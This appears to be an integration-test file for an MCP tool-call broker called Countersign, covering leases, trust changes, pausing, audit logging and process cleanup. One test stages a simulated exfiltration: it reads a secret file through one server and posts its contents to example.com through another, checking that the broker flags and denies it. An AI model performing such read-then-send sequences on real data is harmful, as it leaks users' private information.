// Relay mode: `connect` relays the session itself to a server the broker started with `connect`'s data
// socket as its stdio. Decisions, leases, the log and process lifetimes, through real processes.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect } from 'node:net';
import { promisify } from 'node:util';
import type { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { socketPath } from '../../electron/broker/store/data-dir.js';
import type { AuditEntry, BrokerStatus, ServerView } from '../../shared/api.js';
import { configure, connectClient, makeDataDir, removeDir, startServe, type TestBroker } from '../helpers/broker-harness.js';
import { CLI, FILESYSTEM_SERVER, FIXTURE, NODE } from '../helpers/paths.js';
import { allGone, hostTree, parentOf } from '../helpers/processes.js';

type ToolResult = { content: Array<{ type: string; text?: string }>; isError?: boolean };
const textOf = (r: unknown) => (r as ToolResult).content.map((c) => c.text ?? '').join('\n');
const run = promisify(execFile);

/** The PIDs above `pid`, nearest first. */
function ancestorsOf(pid: number): number[] {
  const chain: number[] = [];
  for (let p = parentOf(pid); p > 1; p = parentOf(p)) chain.push(p);
  return chain;
}

describe('relay mode', () => {
  let broker: TestBroker;
  let scratch: string;

  beforeAll(async () => {
    scratch = mkdtempSync(join(tmpdir(), 'cs-relay-'));
    writeFileSync(join(scratch, 'secret.txt'), 'the secret');
    const dataDir = makeDataDir();
    const tree = { command: NODE, args: [FIXTURE, 'crash'] };
    configure(
      dataDir,
      {
        tree,
        'tree-untrust': tree,
        'tree-cli': tree,
        'tree-kill': tree,
        'tree-term': tree,
        'tree-pause': tree,
        'tree-nine': tree,
        fs: { command: NODE, args: [FILESYSTEM_SERVER, scratch] },
        web: { command: NODE, args: [FIXTURE, 'web'] },
      },
      ['tree', 'tree-untrust', 'tree-cli', 'tree-kill', 'tree-term', 'tree-pause', 'tree-nine', 'fs', 'web'],
    );
    broker = await startServe(dataDir);
  });

  afterAll(async () => {
    await broker?.stop();
    removeDir(broker?.dataDir ?? '');
    removeDir(scratch);
  });

  it('runs the server as a child of the broker, and logs every call with its arguments, leased or not', async () => {
    const client = await connectClient(broker, 'tree', 'connect');
    try {
      const pids = hostTree(JSON.parse(textOf(await client.callTool({ name: 'pids', arguments: {} }))) as { tag: string });
      // The broker's child (through bubblewrap's PID namespace where it works), never connect's.
      const connectPid = (client.transport as StdioClientTransport).pid!;
      expect(ancestorsOf(pids.server)).toContain(broker.child.pid);
      expect(ancestorsOf(pids.server)).not.toContain(connectPid);
      // The first call asks the broker; the rest go on under its lease, and are reported afterwards.
      for (let n = 0; n < 5; n++) expect(textOf(await client.callTool({ name: 'ok', arguments: { n } }))).toBe('ok');
      const log = await broker.logWhen({ server: 'tree', tool: 'ok' }, (l) => l.length >= 5);
      expect(log.map((e) => (e.arguments as { n: number }).n)).toEqual([0, 1, 2, 3, 4]);
      for (const e of log) expect(e).toMatchObject({ decision: 'allow', decidedBy: 'policy', status: 'ok', reasons: ['trusted-read-only'] });
      expect(await broker.api('listPending')).toEqual([]);
    } finally {
      await client.close();
    }
    // An orderly end says goodbye after its last report: no warning about missing entries.
    await new Promise((r) => setTimeout(r, 100));
    const { warnings } = await broker.api<BrokerStatus>('getStatus');
    expect(warnings.filter((w) => w.includes("'tree' session ended abruptly"))).toEqual([]);
  });

  it('drops a data connection whose attach token names no session, and starts nothing', async () => {
    const socket = connect(socketPath(broker.dataDir));
    const closed = new Promise<string>((resolve) => {
      let got = '';
      socket.on('data', (d: Buffer) => (got += d.toString()));
      socket.on('close', () => resolve(got));
      socket.on('error', () => undefined);
    });
    socket.write(JSON.stringify({ countersign: 1, attach: 'not-a-session' }) + '\n');
    expect(await closed).toBe('');
    expect(await broker.api<BrokerStatus>('getStatus')).toMatchObject({ paused: false });
  });

  it('ends its leases the moment a person untrusts the server: the next call asks', async () => {
    const client = await connectClient(broker, 'tree-untrust', 'connect');
    try {
      for (let n = 0; n < 3; n++) await client.callTool({ name: 'ok', arguments: { n } });
      await broker.api('setTrust', 'tree-untrust', false);
      const call = client.callTool({ name: 'ok', arguments: { n: 'after' } });
      const pending = await broker.waitForPending((c) => c.server === 'tree-untrust');
      expect(pending.serverTrusted).toBe(false);
      await broker.api('decide', pending.id, { kind: 'deny', reason: 'no longer trusted' });
      const result = (await call) as ToolResult;
      expect(result.isError).toBe(true);
      expect(textOf(result)).toContain('no longer trusted');
    } finally {
      await client.close();
    }
  });

  it('denies the very next call once Countersign is paused, leases or not', async () => {
    const client = await connectClient(broker, 'tree-pause', 'connect');
    try {
      for (let n = 0; n < 3; n++) await client.callTool({ name: 'ok', arguments: { n } });
      await broker.api('setPaused', true);
      const result = (await client.callTool({ name: 'ok', arguments: { n: 'paused' } })) as ToolResult;
      expect(result.isError).toBe(true);
      expect(textOf(result)).toMatch(/paused/i);
      await broker.api('setPaused', false);
      expect(textOf(await client.callTool({ name: 'ok', arguments: { n: 'resumed' } }))).toBe('ok');
    } finally {
      await broker.api('setPaused', false);
      await client.close();
    }
  });

  it('sees a change made outside the broker within the lease time (the CLI untrusts the server)', async () => {
    const client = await connectClient(broker, 'tree-cli', 'connect');
    try {
      for (let n = 0; n < 3; n++) await client.callTool({ name: 'ok', arguments: { n } });
      await run(NODE, [CLI, '--data-dir', broker.dataDir, 'servers', 'untrust', 'tree-cli'], { env: { ...process.env, COUNTERSIGN_HOME: '' } });
      await new Promise((r) => setTimeout(r, 600)); // a lease lasts 200 ms; the broker re-reads files within 50 ms
      const call = client.callTool({ name: 'ok', arguments: { n: 'after' } });
      const pending = await broker.waitForPending((c) => c.server === 'tree-cli');
      await broker.api('decide', pending.id, { kind: 'deny' });
      expect(((await call) as ToolResult).isError).toBe(true);
    } finally {
      await client.close();
    }
  });

  it('ends an open-world lease once another session of the same client reads local data', async () => {
    // Both connect processes are children of this test process: one client.
    const web = await connectClient(broker, 'web', 'connect');
    const fs = await connectClient(broker, 'fs', 'connect');
    try {
      const post = (body: string) => web.callTool({ name: 'post_url', arguments: { url: 'https://example.com', body } });
      const first = post('one');
      const asked = await broker.waitForPending((c) => c.server === 'web');
      await broker.api('decide', asked.id, { kind: 'always-allow' });
      await first;
      // Allowed by the saved rule, then under the lease that decision gave.
      expect(textOf(await post('two'))).toBe('sent 3 chars');
      expect(textOf(await post('three'))).toBe('sent 5 chars');
      expect(await broker.api('listPending')).toEqual([]);

      expect(textOf(await fs.callTool({ name: 'read_text_file', arguments: { path: join(scratch, 'secret.txt') } }))).toBe('the secret');
      const exfil = post('the secret');
      const pending = await broker.waitForPending((c) => c.server === 'web');
      expect(pending.reasons[0]?.code).toBe('exfiltration-risk');
      await broker.api('decide', pending.id, { kind: 'deny' });
      expect(((await exfil) as ToolResult).isError).toBe(true);
    } finally {
      await web.close();
      await fs.close();
    }
  });

  it('on SIGTERM, connect reports its last calls and ends the session in order', async () => {
    const client = await connectClient(broker, 'tree-term', 'connect');
    const pids = hostTree(JSON.parse(textOf(await client.callTool({ name: 'pids', arguments: {} }))) as { tag: string });
    const connectPid = (client.transport as StdioClientTransport).pid!;
    try {
      for (let n = 0; n < 4; n++) await client.callTool({ name: 'ok', arguments: { n } });
      process.kill(connectPid, 'SIGTERM');
      expect(await allGone([connectPid, pids.server, pids.grandchild])).toBe(true);
      const log = await broker.api<AuditEntry[]>('queryLog', { server: 'tree-term', tool: 'ok' });
      expect(log.map((e) => (e.arguments as { n: number }).n)).toEqual([0, 1, 2, 3]);
      const { warnings } = await broker.api<BrokerStatus>('getStatus');
      expect(warnings.filter((w) => w.includes("'tree-term' session ended abruptly"))).toEqual([]);
    } finally {
      await client.close().catch(() => undefined);
    }
  });

  it('loses no log entry when connect is killed with -9 right after a leased call ran', async () => {
    const client = await connectClient(broker, 'tree-nine', 'connect');
    const connectPid = (client.transport as StdioClientTransport).pid!;
    try {
      // The first call asks the broker and earns the lease; the rest run under it, each reported first.
      for (let n = 0; n < 4; n++) expect(textOf(await client.callTool({ name: 'ok', arguments: { n } }))).toBe('ok');
      process.kill(connectPid, 'SIGKILL');
      const log = await broker.logWhen({ server: 'tree-nine', tool: 'ok' }, (l) => l.length >= 4);
      expect(log.map((e) => (e.arguments as { n: number }).n)).toEqual([0, 1, 2, 3]);
      for (const e of log) expect(e).toMatchObject({ decision: 'allow', decidedBy: 'policy', status: 'ok' });
    } finally {
      await client.close().catch(() => undefined);
    }
  });

  it('ends the server tree when its connect process is killed, and keeps serving', async () => {
    const client = await connectClient(broker, 'tree-kill', 'connect');
    const pids = hostTree(JSON.parse(textOf(await client.callTool({ name: 'pids', arguments: {} }))) as { tag: string });
    const connectPid = (client.transport as StdioClientTransport).pid!;
    try {
      for (let n = 0; n < 3; n++) await client.callTool({ name: 'ok', arguments: { n } }); // leased by now
      process.kill(connectPid, 'SIGKILL');
      expect(await allGone([pids.server, pids.grandchild])).toBe(true);
      const end = Date.now() + 5000;
      let view: ServerView | undefined;
      while (Date.now() < end) {
        view = (await broker.api<ServerView[]>('listServers')).find((s) => s.name === 'tree-kill');
        if (view?.sessions === 0) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(view?.sessions).toBe(0);
      // It had a lease, so calls it ran just before dying may not have reached the log: the broker says so.
      const { warnings } = await broker.api<BrokerStatus>('getStatus');
      expect(warnings.some((w) => w.includes("'tree-kill' session ended abruptly"))).toBe(true);
    } finally {
      await client.close().catch(() => undefined);
    }
  });
});

describe('relay mode when the broker quits', () => {
  it('ends the server tree and the connect process, and fails the call in flight', async () => {
    const dataDir = makeDataDir();
    configure(dataDir, { tree: { command: NODE, args: [FIXTURE, 'crash'] } }, ['tree']);
    const broker = await startServe(dataDir);
    try {
      const client = await connectClient(broker, 'tree', 'connect');
      const connectPid = (client.transport as StdioClientTransport).pid!;
      const pids = hostTree(JSON.parse(textOf(await client.callTool({ name: 'pids', arguments: {} }))) as { tag: string });
      // 'crash' sleeps for seconds before exiting: it is still in flight when the broker goes.
      const inFlight = client.callTool({ name: 'crash', arguments: {} }).then(
        () => 'answered',
        (e: Error) => e.message,
      );
      await new Promise((r) => setTimeout(r, 20));
      await broker.stop();
      expect(await inFlight).not.toBe('answered');
      expect(await allGone([pids.server, pids.grandchild, connectPid])).toBe(true);
      await client.close().catch(() => undefined);
    } finally {
      await broker.stop();
      removeDir(dataDir);
    }
  });
});
